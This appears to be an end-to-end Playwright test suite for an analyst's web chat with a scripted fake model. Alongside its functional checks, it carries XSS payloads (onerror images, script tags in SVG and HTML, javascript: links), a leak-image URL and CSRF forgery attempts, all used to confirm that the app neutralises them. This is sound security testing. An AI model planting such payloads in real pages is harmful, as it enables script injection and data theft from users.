"""The analyst's web chat in a real browser (Playwright + Debian's Chromium) against the real
server, with the fake OpenAI server scripting the model's side."""

from __future__ import annotations

import time
from pathlib import Path

import httpx
import pyarrow.parquet as pq
import pytest

from tests.e2e.conftest import login, run_server, shot

pytestmark = pytest.mark.browser

N_READINGS = 190_560
XSS_CELL = "<img src=x onerror=\"window.__pwned=''tool''\">"  # '' is a quote inside the SQL string
PY_CODE = r'''
import glob, json
import pandas as pd
import matplotlib.pyplot as plt
path = sorted(glob.glob("/data/*.parquet"))[-1]
df = pd.read_parquet(path)
daily = df.groupby(df["ts"].dt.date)["kwh"].sum()
fig, ax = plt.subplots(figsize=(7, 3))
daily.plot(ax=ax, title="Daily energy use (kWh)")
fig.savefig("/outputs/daily.png", dpi=80)
with open("/outputs/report.md", "w") as fh:
    fh.write("# Energy report\n\nRows analysed: %d\n\n![Daily use](daily.png)\n\n![leak](http://example.invalid/x.png)\n" % len(df))
with open("/outputs/evil.svg", "w") as fh:
    fh.write('<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned="svg"</script></svg>')
with open("/outputs/report.html", "w") as fh:
    fh.write("<h1>HTML report</h1><p>ok</p><script>window.__pwned='report'</script>"
             "<img src=x onerror=\"window.__pwned='report-img'\"><a href=\"javascript:alert(1)\">x</a>")
plt.show()
print("rows", len(df))
'''


def api(server, token: str):
    return httpx.Client(base_url=server.base, headers={"Authorization": f"Bearer {token}"}, timeout=30)


def until(page, expression: str, timeout_s: float = 30.0) -> None:
    """Poll a JS expression with page.evaluate (wait_for_function evaluates strings with eval,
    which the app's CSP forbids, as it should)."""
    deadline = time.time() + timeout_s
    while not page.evaluate(f"() => Boolean({expression})"):
        assert time.time() < deadline, f"timed out waiting for: {expression}"
        page.wait_for_timeout(100)


def new_chat(page) -> None:
    """Start a new chat and wait until it is the one shown (empty)."""
    old = page.evaluate("() => location.hash")
    page.click("#new-thread")
    until(page, f"location.hash.startsWith('#t=') && location.hash !== {old!r} && "
                "document.querySelector('#messages .empty') && "
                "document.querySelector('#thread-title').textContent === 'New chat'")


def wait_idle(page) -> None:
    """The turn finished: the Send button is back."""
    page.wait_for_selector("#send:not([hidden])", timeout=120_000)


def ask(page, text: str) -> None:
    """Type a question, press Enter, wait until the turn has started and finished."""
    before = page.locator(".msg.user").count()
    page.fill("#input", text)
    page.press("#input", "Enter")
    until(page, f"document.querySelectorAll('.msg.user').length > {before}")
    wait_idle(page)


def assert_not_pwned(page) -> None:
    assert page.evaluate("window.__pwned === undefined"), page.evaluate("window.__pwned")


def test_analysis_flow_tool_cards_chart_download_report_and_xss(server, page, other_host, tmp_path) -> None:
    llm = server.llm
    llm.clear()
    llm.add_tool_calls([{"id": "call_sql", "name": "sql_query",
                         "arguments": {"sql": f"SELECT r.*, '{XSS_CELL}' AS note FROM readings r"}}])
    llm.add_tool_calls([{"id": "call_py", "name": "python", "arguments": {"code": PY_CODE}}])
    llm.add_text("## Findings\n\nThe table has **190,560** readings; see the chart and "
                 "[the report](#).\n\n<script>window.__pwned='model'</script>\n\n"
                 "<img src=x onerror=\"window.__pwned='model-img'\">\n\n"
                 f"![leak]({other_host.base}/leak.png?secret=42)\n\n"
                 "[click me](javascript:window.__pwned='link')\n\n| building | kWh |\n|---|---|\n| B01 | 12 |\n")
    login(page, server)
    # a thread whose title tries to inject markup
    new_chat(page)
    page.click("#rename-thread")
    page.fill("#prompt-input", "<img src=x onerror=\"window.__pwned='title'\">Energy")
    page.click("#prompt-ok")
    until(page, "document.querySelector('#thread-title').textContent.includes('Energy')")
    assert page.locator("#thread-list img").count() == 0 and page.locator("#thread-title img").count() == 0

    ask(page, "Analyse the energy readings: daily totals and a chart.")
    # the SQL card: collapsed by default, with the arguments, preview table, row count and offload notice
    sql = page.locator("details.tool-card[data-tool='sql_query']")
    assert sql.count() == 1 and sql.get_attribute("open") is None
    assert "190,560 rows" in sql.locator(".tool-status").inner_text()
    sql.locator("summary").click()
    body = sql.locator(".tool-body")
    assert "SELECT r.*" in body.locator("pre.code").inner_text()
    notice = body.locator(".tool-notice").inner_text()
    assert "Offloaded" in notice and "190,560 rows" in notice and "not the full data" in notice
    table = body.locator(".tool-result table")
    assert table.count() == 1 and table.locator("tbody tr").count() >= 3
    assert "building_id" in table.locator("thead").inner_text()
    assert "onerror" in table.inner_text()  # the tool's markup is shown as text...
    assert table.locator("img").count() == 0  # ...never as an element
    # the python card: code and output; the chart inline, full size on click
    py = page.locator("details.tool-card[data-tool='python']")
    py.locator("summary").click()
    assert "read_parquet" in py.locator("pre.code").inner_text()
    assert f"rows {N_READINGS}" in py.locator(".tool-result").inner_text()
    chart = page.locator(".tool-extras img.chart").first
    chart.wait_for()
    until(page, "[...document.querySelectorAll('img.chart')].every(i => i.complete && i.naturalWidth > 0)")
    chart.click()
    page.wait_for_selector("#lightbox[open]")
    assert page.evaluate("document.querySelector('#lightbox-img').naturalWidth") > 0
    shot(page, "chart-lightbox")
    page.keyboard.press("Escape")
    # the answer: Markdown rendered (heading, bold, table), model-written script inert
    answer = page.locator(".msg.assistant").last
    assert answer.locator("h2").inner_text() == "Findings"
    assert answer.locator("strong").inner_text() == "190,560"
    assert answer.locator("table td").first.inner_text() == "B01"
    assert answer.locator("script").count() == 0
    assert "<script>" in answer.inner_text()  # shown as text
    assert answer.locator("a[href^='javascript']").count() == 0
    # the image pointing at another host stays in the markup but the CSP never fetches it
    assert answer.locator(f"img[src^='{other_host.base}']").count() == 1
    page.wait_for_timeout(500)
    assert other_host.requests == [], other_host.requests
    shot(page, "chat-1280", full_page=False)

    # download the Parquet behind the offload notice
    with page.expect_download() as dl:
        body.locator("a.download", has_text="Parquet").click()
    saved = tmp_path / "result.parquet"
    dl.value.save_as(saved)
    assert pq.ParquetFile(saved).metadata.num_rows == N_READINGS
    with page.expect_download() as dl_csv:
        body.locator("a.download", has_text="CSV").click()
    csv_path = tmp_path / "result.csv"
    dl_csv.value.save_as(csv_path)
    with open(csv_path) as fh:
        assert sum(1 for _ in fh) == N_READINGS + 1

    # open the Markdown report: rendered, printable, the chart embedded, the foreign image dropped
    with page.context.expect_page() as popup:
        page.locator("a.open-report", has_text="report.md").click()
    report = popup.value
    report.wait_for_load_state()
    assert report.locator("h1").inner_text() == "Energy report"
    assert "Rows analysed: 190560" in report.inner_text("main")
    img = report.locator("main img[src]")  # the foreign image lost its src: never fetched
    assert img.count() == 1 and img.get_attribute("src").startswith("data:image/png;base64,")
    assert report.locator("main img[alt='leak']").get_attribute("src") is None
    assert report.evaluate("document.querySelector('main img').naturalWidth") > 0
    shot(report, "report")
    report.close()
    # the HTML report written by code: sanitized, scripts gone, served sandboxed
    with page.context.expect_page() as popup2:
        page.locator("a.open-report", has_text="report.html").click()
    html_report = popup2.value
    html_report.wait_for_load_state()
    assert html_report.locator("h1").inner_text() == "HTML report"
    assert html_report.locator("script").count() == 0
    assert html_report.locator("[onerror]").count() == 0
    assert html_report.locator("a[href^='javascript']").count() == 0
    assert html_report.evaluate("window.__pwned === undefined")
    html_report.close()
    resp = page.request.get(server.base + page.locator("a.open-report", has_text="report.html").get_attribute("href"))
    assert resp.headers["content-security-policy"].startswith("sandbox")
    assert resp.headers["x-content-type-options"] == "nosniff"

    # an SVG written by code is a plain download: never shown inline, served sandboxed as an attachment
    svg_link = page.locator(".file-link a", has_text="evil.svg")
    assert svg_link.count() == 1
    svg_href = server.base + svg_link.get_attribute("href")
    r = page.request.get(svg_href)
    assert r.headers["content-disposition"].startswith("attachment")
    assert r.headers["content-security-policy"].startswith("sandbox") and r.headers["x-content-type-options"] == "nosniff"
    assert page.request.get(svg_href.replace("/download", "/view")).status == 415

    # artifacts panel: the table with rows and size, the chart, the files
    page.click("#open-artifacts")
    panel = page.locator("#panel-body")
    panel.locator(".artifact").first.wait_for()
    text = panel.inner_text()
    assert "190,560 rows" in text and "report.md" in text and "daily.png" in text and "expires in" in text
    shot(page, "artifacts-panel")
    # a reload shows the same conversation from the log (history rendering)
    page.reload()
    page.wait_for_selector("details.tool-card[data-tool='sql_query']")
    assert page.locator(".tool-extras img.chart").count() >= 1
    assert "Findings" in page.locator(".msg.assistant").last.inner_text()
    assert_not_pwned(page)
    assert page.js_errors == []


def test_expired_artifact_rerun_from_the_card(server, page) -> None:
    llm = server.llm
    llm.clear()
    llm.add_tool_calls([{"id": "call_big", "name": "sql_query", "arguments": {"sql": "SELECT * FROM readings"}}])
    llm.add_text("Saved the readings.")
    login(page, server)
    new_chat(page)
    ask(page, "Load all readings.")
    aid = page.locator(".tool-notice").first.get_attribute("data-artifact")
    # the cache drops the file (as the TTL sweeper would); the card now offers a re-run
    token = server.token()
    with api(server, token) as c:
        tid = c.get("/api/threads").json()[0]["id"]
        art = c.get(f"/api/artifacts/{aid}").json()
        assert art["can_requery"]
    _expire(server.home, aid)
    page.reload()
    card_notice = page.locator(f".tool-notice[data-artifact='{aid}']")
    page.locator("details.tool-card[data-tool='sql_query'] summary").click()
    assert "Expired" in card_notice.inner_text()
    # read back from the log, the card is the same as live: done, not an error
    card = page.locator("details.tool-card[data-tool='sql_query']")
    assert card.locator(".tool-status").inner_text().startswith("done") and "failed" not in card.get_attribute("class")
    shot(page, "expired-card")
    card_notice.locator("button.requery").click()
    until(page, f"document.querySelector(\".tool-notice[data-artifact='{aid}']\") && "
                           f"document.querySelector(\".tool-notice[data-artifact='{aid}']\").textContent.includes('Offloaded')")
    with api(server, token) as c:
        assert c.get(f"/api/artifacts/{aid}").json()["status"] == "ready"
        assert c.get(f"/api/threads/{tid}").status_code == 200


def _expire(home: Path, aid: str) -> None:
    """Expire an artifact the way the TTL sweeper does (data file gone, tombstone kept)."""
    from datadesk.offload.artifacts.store import ArtifactStore
    from datadesk.store.layout import Layout

    store = ArtifactStore(Layout(home))
    tdir = next(t for ws, user, t, art in store.walk() if art.id == aid)
    assert store.expire(tdir, aid) is not None


def test_clear_chat_keeps_memory_and_delete_a_fact(server, page) -> None:
    llm = server.llm
    llm.clear()
    llm.add_tool_calls([{"id": "call_mem", "name": "remember",
                         "arguments": {"text": "Report energy in MWh, not kWh", "kind": "preference",
                                       "user_asked": True}}])
    llm.add_text("Noted: I will report energy in MWh.")
    login(page, server)
    new_chat(page)
    ask(page, "Please remember: report energy in MWh, not kWh.")
    assert "MWh" in page.locator(".msg.assistant").last.inner_text()
    # clear: the confirmation says what goes and that memory stays
    page.click("#clear-thread")
    dialog = page.locator("#confirm-dialog")
    assert "memory" in dialog.inner_text().lower() and "stays" in dialog.inner_text()
    shot(page, "clear-confirm")
    page.click("#confirm-ok")
    page.wait_for_selector("#messages .empty")
    assert page.locator(".msg").count() == 0
    page.click("#open-memory")
    fact = page.locator("#panel-body .fact", has_text="Report energy in MWh")
    try:
        fact.wait_for(timeout=10_000)
    except Exception:
        raise AssertionError(page.inner_text("#panel-body") + "\n---\n" + page.inner_text("#messages")) from None
    assert "preference" in fact.inner_text() and "this workspace" in fact.inner_text()
    shot(page, "memory-panel")
    # delete it from the panel
    fact.locator("button.delete-fact").click()
    page.click("#confirm-ok")
    page.wait_for_selector("#panel-body .fact", state="detached")
    with api(server, server.token()) as c:
        facts = c.get("/api/memory").json()["facts"]
        assert all("MWh" not in f["text"] for group in facts.values() for f in group)


def test_context_inspector_shows_the_numbers_of_the_last_request(server, page) -> None:
    llm = server.llm
    llm.clear()
    llm.add_text("First answer.", prompt_tokens=1_234, cached_tokens=0)
    llm.add_text("Second answer.", prompt_tokens=1_300, cached_tokens=1_024)
    login(page, server)
    new_chat(page)
    ask(page, "hello")
    assert page.inner_text("#thread-title") == "hello"  # the first question names a new chat
    ask(page, "and again")
    assert page.inner_text("#thread-title") == "hello"
    page.click("#open-context")
    page.wait_for_selector("#ctx-cached")
    with api(server, server.token()) as c:
        tid = c.get("/api/threads").json()[0]["id"]
        m = c.get(f"/api/threads/{tid}/context").json()
    assert page.inner_text("#ctx-cached") == "1,024"
    assert page.inner_text("#ctx-prompt") == "1,300"
    assert page.inner_text("#ctx-cache-ratio") == "78.8%"
    for region, tokens in m["regions"].items():
        assert page.inner_text(f"#ctx-region-{region}") == f"{tokens:,}"
    assert page.inner_text("#ctx-messages") == str(m["messages"])
    first, last = m["included"][0][0], m["included"][-1][1]
    assert page.inner_text("#ctx-included").startswith(f"{first}")
    assert page.inner_text("#ctx-included").endswith(f"{last}")
    assert page.inner_text("#ctx-trimmed") == "nothing" and m["trimmed_through_seq"] == 0
    assert "sql_query" in page.inner_text("#ctx-tools")
    shot(page, "context-inspector")


def test_svg_upload_is_inert_and_csrf_is_enforced(server, page, other_host, tmp_path) -> None:
    login(page, server)
    new_chat(page)
    svg = tmp_path / "evil.svg"
    svg.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned="svg"</script>'
                   '<rect width="10" height="10" onload="window.__pwned=\'svg2\'"/></svg>')
    page.set_input_files("#file-input", str(svg))
    until(page, "!document.querySelector('#upload-text').textContent.startsWith('Uploading')")
    status = page.inner_text("#upload-text")
    token = server.token()
    with api(server, token) as c:
        tid = page.evaluate("location.hash").partition("t=")[2]
        assert tid, (page.url, status)
        arts = c.get(f"/api/threads/{tid}/artifacts").json()
    # refused by content (an SVG can carry script), with a message naming what is accepted
    assert "not uploaded" in status and "unsupported" in status and "CSV" in status, status
    assert arts == []
    assert_not_pwned(page)

    # CSRF: the browser's own session without the token is refused...
    before = len(httpx.get(f"{server.base}/api/threads", headers={"Authorization": f"Bearer {token}"}).json())
    r = page.evaluate("""async () => { const r = await fetch('/api/threads', {method: 'POST',
        headers: {'Content-Type': 'application/json'}, body: JSON.stringify({title: 'forged'})});
        return [r.status, await r.text()]; }""")
    assert r[0] == 403 and "CSRF" in r[1]
    # ...and a cross-site form post from another origin changes nothing
    attacker = page.context.new_page()
    attacker.goto(f"{other_host.base}/attack")
    attacker.wait_for_load_state("networkidle")
    attacker.close()
    after = httpx.get(f"{server.base}/api/threads", headers={"Authorization": f"Bearer {token}"}).json()
    assert len(after) == before and not any(t["title"] in ("forged", "csrf") for t in after)
    # the page's own requests carry the token
    r = page.evaluate("""async () => (await import('/static/js/api.js')).api('POST', '/api/threads', {title: 'ok'})
        .then(t => t.title)""")
    assert r == "ok"


def test_narrow_screen_login_page_and_demo_banner(server, browser) -> None:
    ctx = browser.new_context(viewport={"width": 390, "height": 844})
    page = ctx.new_page()
    try:
        page.goto(server.base + "/")
        page.wait_for_selector("#login-view:not([hidden])")
        shot(page, "login-390")
        page.fill("#login-secret", "not-a-code")
        page.press("#login-secret", "Enter")
        page.wait_for_selector("#login-error:not([hidden])")
        assert "invalid" in page.inner_text("#login-error")
        page.fill("#login-secret", server.token())
        page.press("#login-secret", "Enter")
        page.wait_for_selector("#app-view:not([hidden])")
        # a real LLM is configured here: no demo banner; the sandbox is up: no sandbox banner
        assert page.locator("#banner-demo").is_hidden() and page.locator("#banner-sandbox").is_hidden()
        # the thread list is a drawer at this width
        assert not page.locator("#sidebar").is_visible() or page.evaluate(
            "getComputedStyle(document.querySelector('#sidebar')).transform") != "none"
        page.click("#toggle-sidebar")
        until(page, "document.body.classList.contains('sidebar-open')")
        shot(page, "threads-390")
        page.click("#new-thread")
        until(page, "!document.body.classList.contains('sidebar-open') && document.querySelector('#thread-title').textContent === 'New chat'")
        page.wait_for_timeout(300)  # the drawer's slide-out
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        shot(page, "chat-390")
        # Shift+Enter adds a line, Enter sends
        page.click("#input")
        page.keyboard.type("line one")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("line two")
        assert page.input_value("#input") == "line one\nline two"
    finally:
        ctx.close()


def test_demo_banner_and_no_code_execution_notice(tmp_path, browser) -> None:
    with run_server(tmp_path, llm=None) as demo:
        demo.cli("users", "add", "viewer", "--workspace", "demo")
        ctx = browser.new_context(viewport={"width": 1280, "height": 800})
        page = ctx.new_page()
        try:
            page.goto(demo.login_url("admin"))
            page.click("#login-confirm")
            page.wait_for_selector("#app-view:not([hidden])")
            banner = page.locator("#banner-demo")
            assert banner.is_visible() and "Demo model in use" in banner.inner_text()
            assert page.locator("#banner-sandbox").is_hidden()  # admin may run code; the sandbox is up
            ask(page, "What is in the demo data?")  # no thread yet: sending makes one
            shot(page, "demo-banner")
            assert page.locator(".msg.assistant").count() >= 1, page.inner_text("#messages")
            page.click("#logout")
            page.wait_for_selector("#login-view:not([hidden])")
            page.goto(demo.login_url("viewer"))
            page.click("#login-confirm")
            page.wait_for_selector("#app-view:not([hidden])")
            notice = page.locator("#banner-sandbox")
            assert notice.is_visible() and "code-execution permission" in notice.inner_text()
            assert "truncated" in notice.inner_text()
            shot(page, "no-code-execution")
        finally:
            ctx.close()


def test_stop_button_cancels_a_streaming_turn(server, page) -> None:
    llm = server.llm
    llm.clear()
    llm.add_text(" ".join(f"word{i}" for i in range(40)), chunks=40, delay_s=0.25)
    login(page, server)
    new_chat(page)
    page.fill("#input", "Write a long answer")
    page.press("#input", "Enter")
    page.wait_for_selector("#stop:not([hidden])")
    until(page, "document.querySelector('.msg.assistant') && document.querySelector('.msg.assistant').textContent.includes('word2')")
    page.click("#stop")
    wait_idle(page)
    assert "cancelled" in page.inner_text(".notice.info")
    partial = page.inner_text(".msg.assistant")
    assert "word0" in partial and "word39" not in partial
    page.reload()  # what completed is kept
    page.wait_for_selector(".msg.assistant")
    assert "word0" in page.inner_text(".msg.assistant")


def test_drag_and_drop_upload_with_progress_and_refusal(server, page) -> None:
    login(page, server)
    new_chat(page)
    drop = """([name, text]) => {
        const dt = new DataTransfer();
        dt.items.add(new File([text], name, {type: 'text/csv'}));
        const chat = document.querySelector('#chat');
        chat.dispatchEvent(new DragEvent('dragenter', {dataTransfer: dt, bubbles: true}));
        chat.dispatchEvent(new DragEvent('drop', {dataTransfer: dt, bubbles: true}));
    }"""
    page.evaluate(drop, ["sales.csv", "region,amount\nnorth,10\nsouth,20\neast,30\n"])
    until(page, "document.querySelector('#upload-text').textContent.includes('uploaded')")
    assert page.inner_text("#upload-text") == "sales.csv uploaded: 3 rows.", page.inner_text("#messages")
    page.locator(".msg.user.upload", has_text="sales.csv").wait_for()
    page.evaluate(drop, ["empty.csv", ""])
    until(page, "document.querySelector('#upload-text').textContent.includes('not uploaded')")
    assert "empty" in page.inner_text("#upload-text")
    shot(page, "upload")
    page.click("#open-artifacts")
    page.locator("#panel-body .artifact", has_text="sales.csv").wait_for()


def test_memory_panel_confirm_edit_switch_and_delete_all(server, page) -> None:
    llm = server.llm
    llm.clear()
    llm.add_tool_calls([{"id": "call_look", "name": "sql_query", "arguments": {"sql": "SELECT count(*) FROM holidays"}}])
    # saved after tool output: a candidate the user confirms
    llm.add_tool_calls([{"id": "call_rule", "name": "remember",
                         "arguments": {"text": "Always exclude holidays from averages", "kind": "instruction"}}])
    llm.add_text("I noted that as a suggestion for your memory.")
    login(page, server)
    new_chat(page)
    ask(page, "Averages should skip holidays.")
    page.click("#open-memory")
    candidate = page.locator("section.facts.candidate .fact", has_text="exclude holidays")
    candidate.wait_for()
    candidate.locator("button.confirm").click()
    active = page.locator("section.facts.active .fact", has_text="exclude holidays")
    active.wait_for()
    active.locator("button.edit").click()
    page.fill("#prompt-input", "Always exclude public holidays from averages")
    page.click("#prompt-ok")
    page.locator("section.facts.active .fact", has_text="public holidays").wait_for()
    page.uncheck("#memory-switch")
    page.locator("#panel-body", has_text="Memory is off for you").wait_for()
    with api(server, server.token()) as c:
        assert c.get("/api/memory").json()["enabled"] is False
    page.check("#memory-switch")
    page.locator("#panel-body", has_text="Stable preferences").wait_for()
    page.click("#memory-delete-all")
    page.click("#confirm-ok")
    page.wait_for_selector("#memory-empty")
    with api(server, server.token()) as c:
        body = c.get("/api/memory").json()
        assert body["enabled"] is True and not any(body["facts"].values())
